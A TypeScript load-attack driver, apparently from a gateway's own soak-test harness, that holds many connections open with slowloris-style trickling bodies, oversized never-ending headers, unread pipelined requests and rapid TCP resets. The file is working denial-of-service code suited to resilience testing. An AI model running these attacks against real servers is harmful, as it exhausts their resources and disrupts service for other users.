/** All attacks at once, in a process of their own. Its arguments: the gateway's URL and the plan. Ends when it is killed. */
import { connect, type Socket } from 'node:net'
import type { Plan } from './plan.ts'

const [url = '', plan = ''] = process.argv.slice(2)
const { hostname, port } = new URL(url)
const counts = JSON.parse(plan) as Plan

export interface AttackReport {
  /** Open connections of each attack now. */
  open: Record<string, number>
  resets: number
}

const open: Record<string, number> = {}
let resets = 0
/** Begun per tick, so that the gateway's backlog is not what fails first. */
const burst = 50
const againAfterMs = 1_000

/** Keeps `count` connections open that do `act`; one that the gateway closes is replaced. */
function hold(
  name: string,
  count: number,
  act: (socket: Socket) => NodeJS.Timeout | undefined,
): void {
  open[name] = 0
  const begin = () => {
    let timer: NodeJS.Timeout | undefined
    const socket = connect(Number(port), hostname, () => {
      open[name] = (open[name] ?? 0) + 1
      timer = act(socket)
      socket.once('close', () => {
        open[name] = (open[name] ?? 0) - 1
      })
    })
    socket.on('error', () => {})
    socket.once('close', () => {
      clearInterval(timer)
      setTimeout(begin, againAfterMs)
    })
  }
  let begun = 0
  const ramp = setInterval(() => {
    for (let index = 0; index < burst && begun < count; index += 1, begun += 1) begin()
    if (begun >= count) clearInterval(ramp)
  }, 20)
}

const trickle = (socket: Socket, everyMs: number) =>
  setInterval(() => socket.write('x'), everyMs)

// The head never ends. Its 47 KB are 7,900 header lines, each of which Node makes into two strings.
const tinyHead = Buffer.from(`GET /v3/pairs HTTP/1.1\r\n${'xy:z\r\n'.repeat(7_900)}`)
hold('tiny heads', counts.tinyHeads, (socket) => {
  socket.write(tinyHead)
  socket.resume()
  return undefined
})

// The first answer is large and is not read; what waits behind it are heads of 15 KB.
const waitingHead = `GET /checkouts/1 HTTP/1.1\r\nHost: g\r\nX-Long: ${'x'.repeat(15_000)}\r\n\r\n`
const pipeline = Buffer.from(
  `GET /checkouts/large HTTP/1.1\r\nHost: g\r\n\r\n${waitingHead.repeat(64)}`,
)
hold('pipelined', counts.pipelined, (socket) => {
  socket.pause()
  socket.write(pipeline)
  return undefined
})

const slowOrder = Buffer.concat([
  Buffer.from(
    'POST /v3/orders/float HTTP/1.1\r\nHost: g\r\nApp-Name: slow\r\nContent-Length: 65536\r\n\r\n',
  ),
  Buffer.alloc(65_000, ' '),
])
hold('slow orders', counts.slowOrders, (socket) => {
  socket.write(slowOrder)
  socket.resume()
  return trickle(socket, 10_000)
})

/** Half of them to each upstream. */
function tricklingBody(path: string, length: number, everyMs: number) {
  const head = `POST ${path} HTTP/1.1\r\nHost: g\r\nApp-Name: slow\r\nContent-Length: ${length}\r\n\r\nx`
  return (socket: Socket) => {
    socket.write(head)
    socket.resume()
    return trickle(socket, everyMs)
  }
}
for (const path of ['/checkouts', '/v3/trades']) {
  hold(
    `bodies to ${path}`,
    counts.tricklingBodies / 2,
    tricklingBody(path, 1_000, 29_000),
  )
  hold(
    `large bodies to ${path}`,
    counts.largeTricklingBodies / 2,
    tricklingBody(path, 100_000, 1_000),
  )
}

// Asks for what honest clients have in the cache, and has left by the time it is accepted.
const quote =
  'GET /v3/pairs/ETH_USDC/quotes?amount=0.1 HTTP/1.1\r\nHost: g\r\nApp-Name: soak\r\n\r\n'
setInterval(() => {
  for (let index = 0; index < counts.resetsPerSecond / 10; index += 1) {
    const socket = connect(Number(port), hostname, () => {
      resets += 1
      socket.write(quote, () => socket.resetAndDestroy())
    })
    socket.on('error', () => {})
  }
}, 100)

setInterval(() => process.send?.({ open, resets } satisfies AttackReport), 1_000)
process.on('disconnect', () => process.exit())
